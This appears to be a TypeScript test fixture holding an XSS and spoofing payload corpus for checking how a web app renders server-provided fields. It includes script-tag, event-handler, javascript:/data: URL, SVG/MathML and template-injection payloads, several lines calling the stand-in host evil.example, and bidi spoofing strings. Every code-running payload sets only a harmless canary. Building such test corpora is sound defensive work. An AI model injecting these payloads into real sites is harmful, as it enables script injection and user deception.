/**
 * The hostile-content corpus of issue 5, item 1: XSS and spoofing payloads that are put in every
 * server-provided field. Every payload that could run code sets the canary `window.__pwned`.
 */
const CANARY = 'window.__pwned=1';
const B64_SCRIPT = btoa(`<script>${CANARY}</script>`);

export interface Payload {
  group: string;
  value: string;
}

const p = (group: string, value: string): Payload => ({ group, value });

export const CORPUS: readonly Payload[] = [
  // script tags
  p('script', `<script>${CANARY}</script>`),
  p('script', `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`),
  p('script', `</p></li></ul><script>parent.__pwned=1</script>`),
  p('script', `<scr<script>ipt>${CANARY}</scr</script>ipt>`),
  p('script', `"><script>${CANARY}</script>`),
  p('script', `<noscript><p title="</noscript><img src=x onerror=${CANARY}>">`),
  // event-handler attributes
  p('handler', `<img src=x onerror="${CANARY}">`),
  p('handler', `<svg onload=${CANARY}>`),
  p('handler', `<details open ontoggle=${CANARY}>`),
  p('handler', `<input autofocus onfocus=${CANARY}>`),
  p('handler', `" onmouseover="${CANARY}" x="`),
  p('handler', `' autofocus onfocus='${CANARY}' x='`),
  p('handler', `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`),
  p('handler', `<video><source onerror="${CANARY}"></video>`),
  p('handler', `<body onload=${CANARY}>`),
  // URLs with a dangerous scheme (also tried as avatar and meeting link)
  p('url', `javascript:${CANARY}`),
  p('url', `JaVaScRiPt:${CANARY}`),
  p('url', ` \tjavascript:${CANARY}`),
  p('url', `java\u0000script:${CANARY}`),
  p('url', `&#106;avascript:${CANARY}`),
  p('url', `data:text/html;base64,${B64_SCRIPT}`),
  p('url', `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${CANARY}"/>`),
  p('url', 'vbscript:msgbox(1)'),
  p('url', 'http://evil.example/pixel.png'),
  p('url', '//evil.example/pixel.png'),
  p('url', 'file:///etc/passwd'),
  p('url', 'https://meet.google.com@evil.example/abc'),
  p('url', 'https://meet.google.com/abc"onmouseover="window.__pwned=1'),
  p('url', 'https://evil.example/avatar.png'),
  p('url', '/same-origin-avatar.png'),
  // SVG and MathML
  p('svg', `<svg><script>${CANARY}</script></svg>`),
  p('svg', `<svg><a xlink:href="javascript:${CANARY}"><text x="0" y="20">click</text></a></svg>`),
  p('svg', `<math><mtext><table><mglyph><style><img src=x onerror=${CANARY}>`),
  p('svg', `<svg><animate onbegin=${CANARY} attributeName=x dur=1s>`),
  // template injection
  p('template', `\${${CANARY}}`),
  p('template', `{{constructor.constructor('${CANARY}')()}}`),
  p('template', '<%= 7*7 %> #{7*7} {{7*7}} [[7*7]]'),
  p('template', '<!--?lit$123456$--><?lit$1$>lit$1234$'),
  p('template', '</style><style>*{display:none!important}</style>'),
  // HTML entities
  p('entities', `&lt;script&gt;${CANARY}&lt;/script&gt;`),
  p('entities', '&amp;&quot;&#x27;&#60;&#x3C;&nbsp;&NotARealEntity;'),
  p('entities', `&#x3C;img src=x onerror=${CANARY}&#x3E;`),
  // bidi overrides and invisible characters (spoofing)
  p('bidi', 'Asha Rao\u202E (verified mentor)\u202C'),
  p('bidi', '\u202Egnp.exe'),
  p('bidi', 'Admin\u200B\u200C\u200D\uFEFF\u2060'),
  p('bidi', '\u2066isolated\u2069 \u061C\u200F\u200E'),
  p('bidi', 'Line one\nLine two\r\n\tTabbed\u2028\u2029'),
  // very long text
  p('long', 'W'.repeat(10_000)),
  p('long', 'https://meet.google.com/' + 'a'.repeat(10_000)),
  p('long', '\u{1F600}'.repeat(5_000)),
  p('long', 'word '.repeat(2_000)),
  // emoji and non-Latin names
  p('i18n', '\u{1F469}\u{1F3FD}\u200D\u{1F3EB} Dr. Ayesha \u{1F1EE}\u{1F1F3}'),
  p('i18n', '\u0906\u0936\u093E \u0930\u093E\u0935'),
  p('i18n', '\u0645\u062D\u0645\u062F \u0639\u0628\u062F \u0627\u0644\u0644\u0647'),
  p('i18n', '\u5F20\u4F1F'),
  p('i18n', 'Z\u0334\u0321\u0322\u031B\u0317\u0318\u0319\u031C\u031D\u031E\u031F\u0320\u0300\u0301algo'),
  p('i18n', '\u0E44\u0E17\u0E22 \u03A9\u03BC\u03AD\u03B3\u03B1'),
  // odd values
  p('odd', ''),
  p('odd', '   '),
  p('odd', '__proto__'),
  p('odd', 'constructor'),
  p('odd', '\u0000\u0001\u001F'),
];

/** Fragments that the stress run recombines into random payloads. */
export const FRAGMENTS: readonly string[] = [
  '<',
  '>',
  '"',
  "'",
  '`',
  '/',
  '\\',
  '=',
  '<script>',
  '</script>',
  `${CANARY};`,
  'javascript:',
  'data:text/html,',
  ' onerror=',
  ' onload=',
  '<img src=x',
  '<svg',
  '<iframe',
  '&#x3C;',
  '&lt;',
  '${',
  '}}',
  '{{',
  '\u202E',
  '\u200B',
  '\u0000',
  '\n',
  'W'.repeat(300),
  '\u{1F600}',
  '\u0645\u062D\u0645\u062F',
  'https://',
  'meet.google.com',
  '@evil.example',
  ':8443',
];

/** True when the canary was set by any payload. */
export const pwned = (): boolean => window.__pwned !== undefined;
